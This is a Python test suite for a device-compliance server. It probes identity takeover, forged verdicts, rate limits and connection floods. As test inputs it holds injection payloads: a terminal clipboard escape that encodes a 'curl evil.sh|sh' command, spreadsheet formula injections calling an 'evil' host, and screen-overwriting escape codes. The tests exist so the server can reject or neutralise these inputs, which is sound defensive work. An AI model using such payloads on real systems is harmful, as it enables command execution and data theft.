# SPDX-License-Identifier: MIT
"""The trust model (issue 11), attacked as an attacker would, against the real vigie-server
and the real agent on 127.0.0.1: what a fleet token, a device key, an admin certificate and
a stranger can and cannot do."""
import json
import time

import pytest

from server_util import Device, VigieServer, https


@pytest.fixture
def srv(tmp_path):
    s = VigieServer(tmp_path)
    s.start()
    yield s
    if s.running():
        s.stop()


def agent_conf(tmp_path, srv):
    state = tmp_path / "agent-state"
    conf = tmp_path / "agent.conf"
    conf.write_text(f"[Agent]\nServer=https://127.0.0.1:{srv.port}\nStateDirectory={state}\n"
                    f"RuntimeDirectory={tmp_path / 'agent-run'}\n")
    return conf, state


def device_id_of(srv):
    (device_id,), = srv.sql("SELECT id FROM devices")
    return device_id


def identity_events(srv, device_id):
    return [k for k, in srv.sql("SELECT kind FROM identity_events WHERE device_id = $1 ORDER BY at, rowid",
                                device_id)]


# ---- 1. identity -------------------------------------------------------------------

def test_fleet_token_cannot_take_over_an_enrolled_device(srv, tmp_path, vigie):
    fleet_token = srv.token(uses=100)
    conf, state = agent_conf(tmp_path, srv)
    r = vigie("enroll", "--config", conf, "--token", fleet_token, "--ca", srv.ca)
    assert r.returncode == 0, r
    assert vigie("report", "--config", conf).returncode == 0
    victim = device_id_of(srv)
    serial_before = srv.sql("SELECT cert_serial FROM devices WHERE id = $1", victim)
    # The attacker holds the fleet token and a fresh key, and names the victim's id.
    attacker = Device(srv, device_id=victim)
    status, body = attacker.enroll(fleet_token)
    assert (status, body["error"]) == (403, "device_enrolled"), body
    assert "vigie-server device reset" in body["detail"]
    # Nothing changed: same certificate, none revoked, the token's use not taken.
    assert srv.sql("SELECT cert_serial FROM devices WHERE id = $1", victim) == serial_before
    assert srv.count("certificates", "device_id = $1 AND revoked_at IS NOT NULL", victim) == 0
    assert srv.sql("SELECT uses_left FROM tokens") == [("99",)]
    # The real laptop keeps reporting.
    r = vigie("report", "--config", conf)
    assert r.returncode == 0, r
    assert srv.count("reports", "device_id = $1", victim) == 2
    assert identity_events(srv, victim) == ["enrolled"]


def test_reenroll_with_current_certificate_needs_no_token(srv, tmp_path, vigie):
    conf, state = agent_conf(tmp_path, srv)
    assert vigie("enroll", "--config", conf, "--token", srv.token(), "--ca", srv.ca).returncode == 0
    device_id = device_id_of(srv)
    old = (state / "device.crt").read_text()
    # No token anywhere: the device proves itself with its certificate.
    r = vigie("enroll", "--config", conf, "--force", "--token-file", tmp_path / "none")
    assert r.returncode != 0 and "cannot read the enrollment token" in r.stderr, r
    r = vigie("enroll", "--config", conf, "--force")
    assert r.returncode == 0, r
    assert (state / "device.crt").read_text() != old
    assert srv.count("certificates", "device_id = $1 AND revoked_at IS NULL", device_id) == 1
    assert identity_events(srv, device_id) == ["enrolled", "reenrolled_certificate"]
    assert vigie("report", "--config", conf).returncode == 0
    # Another device's certificate proves nothing for this id.
    other = Device(srv)
    assert other.enroll(srv.token())[0] == 201
    thief = Device(srv, device_id=device_id)
    status, body, _ = https(srv, "POST", "/v1/enroll", {"csr": thief.csr()},
                            cert=other.cert_path, key=other.key_path)
    assert (status, body["error"]) == (403, "device_enrolled"), body
    # Without a certificate, a token is required.
    status, body, _ = https(srv, "POST", "/v1/enroll", {"csr": thief.csr()})
    assert (status, body["error"]) == (400, "malformed_request"), body
    assert srv.count("certificates", "device_id = $1 AND revoked_at IS NULL", device_id) == 1


def test_reset_token_is_one_time_and_bound_to_its_device(srv, tmp_path, vigie):
    conf, state = agent_conf(tmp_path, srv)
    assert vigie("enroll", "--config", conf, "--token", srv.token(), "--ca", srv.ca).returncode == 0
    device_id = device_id_of(srv)
    other = Device(srv)
    assert other.enroll(srv.token())[0] == 201
    reset = srv.device_reset(device_id)
    # Bound to device_id: it neither re-enrolls another device nor enrolls a new one.
    status, body = Device(srv, device_id=other.id).enroll(reset)
    assert (status, body["error"]) == (403, "device_enrolled"), body
    status, body = Device(srv).enroll(reset)
    assert (status, body["error"]) == (403, "token_unknown"), body
    # The reinstalled laptop: key and certificate lost, a new key, the reset token.
    (state / "device.key").unlink()
    (state / "device.crt").unlink()
    r = vigie("enroll", "--config", conf, "--token", reset)
    assert r.returncode == 0, r
    assert vigie("report", "--config", conf).returncode == 0
    assert identity_events(srv, device_id) == ["enrolled", "reset_issued", "reenrolled_reset"]
    cert, key = srv.admin_cert("alice")
    status, body, _ = https(srv, "GET", f"/v1/fleet/devices/{device_id}", cert=cert, key=key)
    assert status == 200, body
    events = body["identity"]["events"]
    assert [e["event"] for e in events] == ["enrolled", "reset_issued", "reenrolled_reset"], events
    assert events[-1]["serial"] == body["identity"]["serial"] and events[1]["serial"] is None
    # Used once: a second laptop with the same token is refused.
    status, body = Device(srv, device_id=device_id).enroll(reset)
    assert (status, body["error"]) == (403, "device_enrolled"), body
    # Expired tokens are refused; unknown device ids get no reset token.
    late = srv.device_reset(device_id, ttl="1s")
    time.sleep(2.1)
    status, body = Device(srv, device_id=device_id).enroll(late)
    assert (status, body["error"]) == (403, "device_enrolled"), body
    r = srv.cli("device", "reset", "00000000-0000-4000-8000-000000000000")
    assert r.returncode == 1 and "No enrolled device" in r.stderr, r


def test_agent_refuses_a_token_file_others_can_read(srv, tmp_path):
    from agent_util import Agent, wait_for
    token = tmp_path / "enroll.token"
    token.write_text(srv.token() + "\n")
    token.chmod(0o640)
    a = Agent(tmp_path / "agent", "ReportIntervalSec=2\n"
              f"Server=https://127.0.0.1:{srv.port}\nCA={srv.ca}\nEnrollTokenFile={token}\n")
    try:
        a.start()
        wait_for(lambda: "Not enrolling" in a.logtext(), what="the refusal logged")
        assert "must be owned by root and readable by root only" in a.logtext()
        assert "mode 0640" in a.logtext()
        assert srv.count("devices") == 0
        assert not (a.state / "device.crt").exists()
    finally:
        a.stop()


# ---- 2. the server decides ---------------------------------------------------------

def check(cid, status):
    return {"id": cid, "status": status, "title": cid, "summary": f"{cid} {status}", "remediation": None,
            "deadline": None, "evidence": {}, "duration_us": 1}


def checks(**statuses):
    base = {"disk_encryption": "pass", "patch_level": "pass", "backup": "pass"} | statuses
    return [check(c, s) for c, s in base.items()]


def verdict(srv, dev):
    return srv.sql("SELECT verdict FROM latest WHERE device_id = $1", dev.id)


def publish(srv, tmp_path, version, **required):
    pol = tmp_path / f"policy-{version}.json"
    pol.write_text(json.dumps({"policy_id": "default", "version": version,
                               "checks": {c: {"required": r} for c, r in required.items()}}))
    r = srv.cli("policy", "set", pol)
    assert r.returncode == 0, r
    return r


def test_a_lying_verdict_is_refused_and_nothing_stored(srv):
    dev = Device(srv)
    assert dev.enroll(srv.token())[0] == 201
    # A failing required check beside "compliant": true.
    status, body = dev.post(dev.report(advance=False, compliant=True, checks=checks(disk_encryption="fail")))
    assert (status, body["error"]) == (400, "invalid_claims"), body
    assert "compliant: true" in body["detail"]
    # A required check left out is failing too.
    status, body = dev.post(dev.report(advance=False, compliant=True, checks=checks()[:2]))
    assert (status, body["error"]) == (400, "invalid_claims"), body
    assert srv.count("reports") == 0 and srv.count("latest") == 0 and srv.count("check_results") == 0
    # A policy this server never published.
    claims = dev.claims()
    claims["policy"] = {"id": "default", "version": 99}
    status, body = dev.post(dev.sign(claims))
    assert (status, body["error"]) == (400, "unknown_policy"), body
    assert '"default" version 99 was never published' in body["detail"]
    assert srv.count("reports") == 0
    # The truth is accepted.
    assert dev.post(dev.report(compliant=False, checks=checks(disk_encryption="fail")))[0] == 202
    assert dev.post(dev.report())[0] == 202


def test_publishing_a_policy_reevaluates_the_fleet_at_once(srv, tmp_path):
    a, b = Device(srv), Device(srv)
    for d in (a, b):
        assert d.enroll(srv.token())[0] == 201
    assert a.post(a.report(compliant=False, checks=checks(backup="fail")))[0] == 202
    assert b.post(b.report())[0] == 202
    assert verdict(srv, a) == [("noncompliant",)] and verdict(srv, b) == [("compliant",)]
    # Backups no longer required: a is compliant at once, without a new report.
    r = publish(srv, tmp_path, 2, backup=False)
    assert "1 device verdict(s) changed" in r.stdout
    assert verdict(srv, a) == [("compliant",)] and verdict(srv, b) == [("compliant",)]
    # A report under the older version it still holds is judged by that version, and the
    # fleet view by the current one.
    assert a.post(a.report(compliant=False, checks=checks(backup="fail")))[0] == 202
    assert verdict(srv, a) == [("compliant",)]
    # Tightened again: non-compliant at once, and since the publication.
    publish(srv, tmp_path, 3, backup=True)
    assert verdict(srv, a) == [("noncompliant",)]
    assert srv.sql("SELECT noncompliant_since IS NOT NULL FROM latest WHERE device_id = $1", a.id) in ([("1",)], [("t",)])
    # Every version is kept; a published version cannot change.
    assert srv.count("policies") == 3
    pol = tmp_path / "policy-3b.json"
    pol.write_text(json.dumps({"policy_id": "default", "version": 3, "checks": {"backup": {"required": False}}}))
    r = srv.cli("policy", "set", pol)
    assert r.returncode == 1 and "already published with other content" in r.stderr, r
    assert verdict(srv, a) == [("noncompliant",)]



def test_vigiectl_audit_recomputes_verdicts_with_the_auditors_policy(tmp_path):
    """A report whose verdict lies (stored by an older server, or written behind the
    server's back) is found by the auditor holding the policy it names."""
    import hashlib
    from fleet_util import NOW, FleetServer
    s = FleetServer(tmp_path).start(now=NOW)
    try:
        dev = Device(s)
        assert dev.enroll(s.token())[0] == 201
        assert dev.post(dev.report(iat=NOW))[0] == 202
        claims = dev.claims(iat=NOW, compliant=True, checks=checks(disk_encryption="fail"))
        lie = dev.sign(claims)
        assert dev.post(lie)[0] == 400
        (serial,), = s.sql("SELECT cert_serial FROM devices WHERE id = $1", dev.id)
        # as received: the store keeps a JWS it did not split into chunks unchanged
        s.write("INSERT INTO reports(device_id, seq, iat, received_at, hash, prev, gap, compliant, "
                "cert_serial, jws) VALUES ($1, 2, $2, $2, $3, $4, 0, 1, $5, $6)",
                dev.id, NOW, hashlib.sha256(lie.encode()).hexdigest(), claims["prev"], serial, lie)
        policy = tmp_path / "policy-v1.json"
        policy.write_text(s.cli("policy", "show").stdout)
        r = s.ctl("audit", dev.id)
        assert r.returncode == 0 and "2 name a policy not given with --policy" in r.stdout, r
        r = s.ctl("audit", dev.id, "--policy", policy)
        assert r.returncode == 1, r
        assert "wrong_verdict" in r.stdout and "report seq 2: compliant: true" in r.stdout, r.stdout
        r = s.ctl("audit", dev.id, "--policy", tmp_path / "missing.json")
        assert r.returncode == 2 and "--policy" in r.stderr, r
    finally:
        s.stop()


# ---- 3. claims are data ------------------------------------------------------------

@pytest.mark.parametrize("where,value", [
    ("title", "Backup\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"),      # OSC 52: write the clipboard
    ("summary", "ok\x1b[2K\x1b[1A\rall good"),                  # erase and overwrite a line
    ("summary", "ok\u009b2K"),                                 # the same with a C1 CSI
    ("remediation", "run \x7f this"),
    ("evidence", {"path": "/\x1b[31m"}),
    ("evidence", {"na\nme": "x"}),
    ("id", "Disk-Encryption"),
    ("id", "=HYPERLINK(\"http://evil\")"),
    ("id", "a" * 65),
    ("title", "t" * 129),
    ("hostname", "laptop\x1b[8m"),
    ("hostname", "laptop\u0085"),
])
def test_markup_in_claims_is_refused(srv, where, value):
    dev = Device(srv)
    assert dev.enroll(srv.token())[0] == 201
    claims = dev.claims()
    if where == "hostname":
        claims["host"]["hostname"] = value
    else:
        claims["checks"][1][where] = value
    status, body = dev.post(dev.sign(claims))
    assert (status, body["error"]) == (400, "invalid_claims"), body
    assert srv.count("reports") == 0 and srv.count("latest") == 0
    # Newlines are fine where people read the text.
    claims = dev.claims()
    claims["checks"][1]["summary"] = "2 updates:\nlinux-image\nopenssl"
    claims["checks"][1]["remediation"] = "Run:\n  sudo apt upgrade"
    assert dev.post(dev.sign(claims))[0] == 202


def test_csv_cells_are_neutralised_in_both_exports(tmp_path):
    from fleet_util import NOW, Device as FleetDevice, FleetServer
    import csv
    import io
    s = FleetServer(tmp_path).start(now=NOW)
    try:
        token = s.token()
        for name in ("=HYPERLINK(\"http://evil/\"&A1)", "-2+3", "+cmd|' /C calc'!A0", "@SUM(A1)", "plain"):
            FleetDevice(s, name).enroll(token).send()
        st, _, body = s.request("GET", "/v1/fleet/export?format=csv")
        assert st == 200
        cells = [row[1] for row in csv.reader(io.StringIO(body.decode()))][1:]
        r = s.ctl("devices", "--csv", "--sort", "hostname")
        assert r.returncode == 0, r
        ctl_cells = [row[1] for row in csv.reader(io.StringIO(r.stdout))][1:]
        for got in (cells, ctl_cells):
            assert sorted(got) == sorted(["'=HYPERLINK(\"http://evil/\"&A1)", "'-2+3", "'+cmd|' /C calc'!A0",
                                          "'@SUM(A1)", "plain"]), got
    finally:
        s.stop()


def test_vigiectl_escapes_what_it_prints(srv, tmp_path):
    """Defence in depth: a control character already in the database (an old row, a
    restored backup) reaches the terminal escaped."""
    from fleet_util import NOW, Device as FleetDevice, FleetServer
    s = FleetServer(tmp_path / "f").start(now=NOW)
    try:
        d = FleetDevice(s, "laptop").enroll(s.token())
        d.send()
        s.write("UPDATE latest SET hostname = $1", "evil\x1b]52;c;ZWNobyBoaQ==\x07\u009b2J")
        for args in (("devices",), ("device", d.id)):
            r = s.ctl(*args)
            assert r.returncode == 0, r
            assert "\x1b" not in r.stdout and "\x07" not in r.stdout and "\u009b" not in r.stdout
            assert "evil\\e]52;c;ZWNobyBoaQ==\\x07\\x9b2J" in r.stdout, r.stdout
    finally:
        s.stop()



# ---- 4. bounded per device ---------------------------------------------------------

def test_invented_check_ids_do_not_reach_summary_or_metrics(tmp_path):
    from fleet_util import NOW, FleetServer
    s = FleetServer(tmp_path).start(now=NOW)
    try:
        dev = Device(s)
        assert dev.enroll(s.token())[0] == 201
        invented = [check(f"invented_{i:02d}", "fail" if i % 2 else "pass") for i in range(60)]
        claims = dev.claims(iat=NOW, compliant=True, checks=checks() + invented)
        st, body = dev.post(dev.sign(claims))
        assert st == 202, body
        dev.seq, dev.prev = 1, __import__("hashlib").sha256(dev.sign(claims).encode()).hexdigest()
        summary = s.get_json("/v1/fleet/summary")
        assert sorted(summary["checks"]) == ["backup", "disk_encryption", "patch_level"], summary["checks"]
        st, _, metrics = s.request("GET", "/metrics")
        assert st == 200 and b"invented_" not in metrics
        # Kept in the stored report, for auditors.
        assert s.count("check_results", "check_id LIKE 'invented_%'") == 60
        assert s.count("fleet_check_counts", "check_id LIKE 'invented_%'") == 0
        # A policy that stops naming a check takes it out of the counters, and no counter
        # row stays at zero.
        pol = tmp_path / "p2.json"
        pol.write_text(json.dumps({"policy_id": "default", "version": 2,
                                   "checks": {"backup": {"required": False}}}))
        assert s.cli("policy", "set", pol).returncode == 0
        assert s.count("fleet_check_counts", "n <= 0") == 0
    finally:
        s.stop()



def test_a_flooding_device_gets_429_while_another_is_served(tmp_path):
    s = VigieServer(tmp_path, conf="[Limits]\nDeviceReportBurst=5\nDeviceReportInterval=60s\n")
    s.start()
    try:
        flood, other = Device(s), Device(s)
        for d in (flood, other):
            assert d.enroll(s.token())[0] == 201
        statuses = []
        for _ in range(12):
            st, body, headers = https(s, "POST", "/v1/reports", flood.report(),
                                      cert=flood.cert_path, key=flood.key_path)
            statuses.append(st)
        assert statuses[:5] == [202] * 5 and set(statuses[5:]) == {429}, statuses
        assert body["error"] == "too_many_requests" and 0 < int(headers["Retry-After"]) <= 60, (body, headers)
        assert s.count("reports", "device_id = $1", flood.id) == 5
        # Every other device keeps its own budget.
        assert other.post(other.report())[0] == 202
    finally:
        s.stop()


def test_the_agent_drains_a_backlog_in_one_request_and_honours_429(tmp_path, vigie):
    s = VigieServer(tmp_path, conf="[Limits]\nDeviceReportBurst=2\nDeviceReportInterval=1h\n")
    s.start()
    conf, state = agent_conf(tmp_path, s)
    try:
        assert vigie("enroll", "--config", conf, "--token", s.token(), "--ca", s.ca).returncode == 0
        s.stop()
        for _ in range(6):
            vigie("report", "--config", conf)  # offline: spooled
        s.start()
        conf.write_text(conf.read_text().replace("Server=https://127.0.0.1:", "#") +
                        f"Server=https://127.0.0.1:{s.port}\n")
        r = vigie("report", "--config", conf)  # 7 reports, one request
        assert r.returncode == 0, r
        assert s.count("reports") == 7
        assert vigie("report", "--config", conf).returncode == 0  # the second request of the budget
        r = vigie("report", "--config", conf)  # over budget: kept, with the server's advice
        assert "queued, 1 waiting" in r.stdout and "HTTP 429: too_many_requests" in r.stdout, r
        assert s.count("reports") == 8
        assert len(list((state / "spool").glob("*.jws"))) == 1
    finally:
        s.stop()


# ---- 5. bounded per stranger -------------------------------------------------------

def test_idle_sockets_from_one_address_do_not_lock_devices_out(srv):
    """1,100 idle TCP connections (no TLS, no byte) from 127.0.0.2, at the default
    MaxConnections=1024: a device on 127.0.0.1 is still served."""
    import resource
    import socket
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4096), hard))
    dev = Device(srv)
    assert dev.enroll(srv.token())[0] == 201
    held = []
    try:
        for _ in range(1100):
            s = socket.socket()
            s.bind(("127.0.0.2", 0))
            s.connect(("127.0.0.1", srv.port))
            held.append(s)
        time.sleep(1)
        status, body = dev.post(dev.report())
        assert status == 202, body
        # The address's share is closed at once (the rest waits in the kernel's backlog).
        closed = 0
        for s in held[:200]:
            s.settimeout(0.05)
            try:
                closed += s.recv(1) == b""
            except (socket.timeout, ConnectionResetError):
                closed += isinstance(s, socket.socket) and False
        assert closed >= 100, closed
    finally:
        for s in held:
            s.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    status, body = dev.post(dev.report())
    assert status == 202, body


def test_never_requested_connections_go_first_at_the_cap(tmp_path):
    """At MaxConnections, an idle connection that never sent a request makes room."""
    import socket
    s = VigieServer(tmp_path, conf="[Limits]\nMaxConnections=20\nMaxConnectionsPerAddress=64\n")
    s.start()
    held = []
    try:
        dev = Device(s)
        assert dev.enroll(s.token())[0] == 201
        for i in range(40):
            c = socket.socket()
            c.bind((f"127.0.0.{2 + i % 4}", 0))
            c.connect(("127.0.0.1", s.port))
            held.append(c)
        time.sleep(0.5)
        for _ in range(3):
            status, body = dev.post(dev.report())
            assert status == 202, body
    finally:
        for c in held:
            c.close()
        s.stop()


def test_a_certificate_less_body_is_not_read_whole(srv):
    """1 MiB to /v1/enroll without a certificate: the server stops reading (closes) after
    one enrollment's worth, and keeps serving."""
    import socket
    import ssl
    ctx = ssl.create_default_context(cafile=str(srv.ca))
    raw = socket.create_connection(("127.0.0.1", srv.port), timeout=10)
    conn = ctx.wrap_socket(raw, server_hostname="localhost")
    conn.settimeout(5)  # RequestTimeout is 10 s: a server still reading says nothing before
    closed = False
    try:
        conn.sendall(b"POST /v1/enroll HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 1048576\r\n\r\n" + b"x" * (128 * 1024))
        while conn.recv(4096):
            pass
        closed = True
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
        closed = True
    except socket.timeout:
        pass
    conn.close()
    assert closed, "the server was still reading the body after 5 s"
    dev = Device(srv)
    assert dev.enroll(srv.token())[0] == 201
